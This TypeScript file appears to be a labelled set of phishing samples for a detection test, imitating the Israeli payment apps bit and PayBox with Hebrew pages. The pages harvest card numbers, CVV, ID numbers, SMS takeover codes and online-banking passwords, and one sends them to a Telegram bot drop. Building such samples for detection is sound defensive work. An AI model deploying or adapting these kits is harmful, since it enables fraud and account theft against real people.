import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { FONT_HE, LOGO, LUHN_JS, TZ_JS, b64, codes, doc, telegramDrop } from '../parts/yu-kit.js';

// Kits imitating the Israeli P2P payment apps (bit, PayBox): "money is waiting for you", group
// invitations, refunds. They want the phone number, the SMS code that re-registers the app on a new
// device, and the debit card behind it.

export const entries: Entry[] = [
{
  id: 'yu-bit-transfer-waiting-card',
  label: 'phishing',
  kind: 'il-payapp-kit',
  url: 'https://bit-pay-il.online/receive/?amt=1250&from=%D7%90%D7%91%D7%99',
  body: doc({
    title: 'bit - קיבלת העברה',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#e9f8f8}
.top{background:#00b4b4;padding:18px;text-align:center}.top svg rect{fill:#fff}.top svg text{fill:#00b4b4}
.box{max-width:380px;margin:-10px auto 20px;background:#fff;border-radius:16px;padding:22px;box-shadow:0 4px 20px rgba(0,120,120,.15)}
.amt{font-size:40px;font-weight:700;text-align:center;color:#007d7d}.who{text-align:center;color:#555}
input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #bde5e5;border-radius:10px;margin:6px 0;font-size:16px}
button{width:100%;padding:14px;border:0;border-radius:24px;background:#00b4b4;color:#fff;font-size:17px;margin-top:10px}
.stp{display:none}.stp.on{display:block}`,
    body: `<div class="top">${LOGO.bit}</div>
<div class="box">
<p class="who">אבי כהן שלח/ה לך</p><div class="amt">₪1,250.00</div><p class="who" style="font-size:13px">"החזר על הדירה 🙏"</p>
<div class="stp on" id="p1"><p style="font-size:14px">כדי לקבל את הכסף לחשבון הבנק, יש לאמת את הכרטיס המקושר לאפליקציה.</p>
<input id="ph" type="tel" placeholder="מספר טלפון"><input id="tz" placeholder="תעודת זהות" inputmode="numeric" maxlength="9">
<input id="cn" placeholder="מספר כרטיס דביט / אשראי" inputmode="numeric"><div style="display:flex;gap:8px"><input id="ex" placeholder="MM/YY"><input id="cv" placeholder="CVV" maxlength="3"></div>
<button id="n1">לקבלת הכסף</button></div>
<div class="stp" id="p2"><p>שלחנו אליך קוד ב-SMS לאישור קבלת ההעברה</p><input id="otp" maxlength="6" inputmode="numeric" placeholder="______"><button id="n2">אישור</button></div>
<div class="stp" id="p3" style="text-align:center"><p>✅ ההעברה תזוכה בחשבונך תוך 3 ימי עסקים.</p></div>
</div>
<script>
${LUHN_JS}
${TZ_JS}
${telegramDrop('6918273645:AAEb_x7KqLp2RmS9vT0wYz4cNd1hJf6gU3o', '5560192837', 'drop')}
function v(i){return document.getElementById(i).value}
function sh(i){["p1","p2","p3"].forEach(function(x){document.getElementById(x).classList.toggle("on",x===i)})}
document.getElementById("n1").onclick=function(){if(!tzOk(v("tz"))||!luhn(v("cn"))){alert("הפרטים שהוזנו שגויים");return}
drop({app:"BIT",phone:v("ph"),tz:v("tz"),card:v("cn"),exp:v("ex"),cvv:v("cv")}).then(function(){sh("p2")})};
document.getElementById("n2").onclick=function(){drop({app:"BIT",phone:v("ph"),otp:v("otp")}).then(function(){sh("p3")})};
</script>`,
  }),
},
{
  id: 'yu-paybox-group-invite-sms-takeover',
  label: 'phishing',
  kind: 'il-payapp-kit',
  url: 'https://paybox-groups.app-invite.net/join/g/8812?n=%D7%95%D7%A2%D7%93%20%D7%94%D7%95%D7%A8%D7%99%D7%9D',
  body: doc({
    title: 'PayBox | הוזמנת לקבוצה',
    lang: 'he',
    css: `body{margin:0;background:#f1f5ff;font-family:${FONT_HE}}
.w{max-width:400px;margin:0 auto;padding:24px}.hero{background:#1e6bff;color:#fff;border-radius:18px;padding:22px;margin:16px 0}
.hero b{font-size:22px}.f input{width:100%;box-sizing:border-box;padding:13px;border-radius:10px;border:1px solid #c7d6ff;margin-bottom:10px;font-size:16px}
.btn{background:#1e6bff;color:#fff;border:0;border-radius:10px;width:100%;padding:14px;font-size:16px}#c2{display:none}`,
    body: `<div class="w">${LOGO.paybox}
<div class="hero"><b>ועד הורים - כיתה ג׳2</b><p>מיכל הזמינה אותך להצטרף לקבוצה ולהעביר 120 ₪ עבור מתנת סוף שנה</p></div>
<div class="f" id="c1"><p>כניסה מהירה עם מספר הטלפון</p><input id="m" type="tel" placeholder="050-0000000"><button class="btn" id="s1">שלחו לי קוד</button></div>
<div class="f" id="c2"><p>הזינו את הקוד שקיבלתם ב-SMS מ-PayBox</p><input id="k" inputmode="numeric" maxlength="6"><button class="btn" id="s2">הצטרפות לקבוצה</button></div>
</div>
<script src="/join/assets/pb.min.js"></script>`,
  }),
  routes: {
    'paybox-groups.app-invite.net/join/assets/pb.min.js': jsRoute(
      `!function(){var e=atob("${b64('/join/api/')}"),t=function(n,o){return fetch(e+n,{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(o)}).then(function(r){return r.json()})};
document.getElementById("s1").onclick=function(){var m=document.getElementById("m").value;if(m.replace(/[^0-9]/g,"").length<9)return;t("req",{m:m}).then(function(){document.getElementById("c1").style.display="none";document.getElementById("c2").style.display="block"})};
document.getElementById("s2").onclick=function(){t("verify",{m:document.getElementById("m").value,k:document.getElementById("k").value}).then(function(r){location.href=r.u||"https://payboxapp.com"})}}();`,
    ),
    'paybox-groups.app-invite.net/join/api/req': jsonRoute({ ok: 1 }),
    'paybox-groups.app-invite.net/join/api/verify': jsonRoute({ ok: 1, u: 'https://payboxapp.com/he' }),
  },
},
{
  id: 'yu-bit-business-refund-redirect-php',
  label: 'phishing',
  kind: 'il-payapp-kit',
  url: 'https://l.refund-bit.co/r/9Qe1',
  routes: {
    'l.refund-bit.co/r/9Qe1': redirectRoute(301, 'https://bitbusiness-refund.co-il.live/he/refund/index.php?case=IL-2284-9Qe1'),
    'bitbusiness-refund.co-il.live/he/refund/index.php': htmlRoute(
      doc({
        title: 'bit עסקים - החזר כספי',
        lang: 'he',
        css: `body{font-family:${FONT_HE};margin:0;background:#fafafa}.h{display:flex;justify-content:space-between;align-items:center;padding:12px 20px;background:#fff;border-bottom:1px solid #eee}
.m{max-width:520px;margin:30px auto;background:#fff;border:1px solid #e3e3e3;border-radius:8px;padding:24px}
table{width:100%;border-collapse:collapse;font-size:14px;margin:12px 0}td{padding:7px;border-bottom:1px solid #f0f0f0}
label{display:block;margin-top:10px;font-size:14px}input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc;border-radius:6px}
button{background:#00b4b4;border:0;color:#fff;padding:13px;width:100%;border-radius:6px;margin-top:16px;font-size:16px}`,
        body: `<div class="h">${LOGO.bit}<span>מרכז החזרים</span></div>
<div class="m"><h2>בקשת החזר מס׳ IL-2284-9Qe1</h2>
<table><tr><td>בית עסק</td><td>שופרסל אונליין</td></tr><tr><td>סכום לזיכוי</td><td><b>₪ 386.40</b></td></tr><tr><td>סטטוס</td><td style="color:#d97706">ממתין לאישור הלקוח</td></tr></table>
<form method="post" action="/he/refund/step2.php">
<label>בנק</label><select name="bank"><option>הפועלים</option><option>לאומי</option><option>דיסקונט</option><option>מזרחי טפחות</option><option>הבינלאומי</option><option>ירושלים</option></select>
<label>מספר סניף</label><input name="branch" required><label>מספר חשבון</label><input name="acct" required>
<label>שם משתמש לאתר הבנק</label><input name="bu" required><label>סיסמה לאתר הבנק</label><input name="bp" type="password" required>
<input type="hidden" name="case" value="IL-2284-9Qe1"><button>אישור קבלת ההחזר</button></form>
<p style="font-size:12px;color:#888">הזיכוי יבוצע באמצעות ממשק הבנקאות הפתוחה בהתאם להוראות בנק ישראל.</p></div>`,
      }),
    ),
    'bitbusiness-refund.co-il.live/he/refund/step2.php': redirectRoute(302, 'https://bitbusiness-refund.co-il.live/he/refund/wait.php'),
    'bitbusiness-refund.co-il.live/he/refund/wait.php': htmlRoute(
      `<!DOCTYPE html><html lang="he" dir="rtl"><head><meta charset="utf-8"><title>ממתין</title><meta http-equiv="refresh" content="8;url=/he/refund/otp.php"></head><body style="font-family:Arial;text-align:center;padding:60px"><p>מתבצע חיבור מאובטח לבנק…</p><p>אנא אל תסגרו את החלון</p></body></html>`,
    ),
  },
},
];
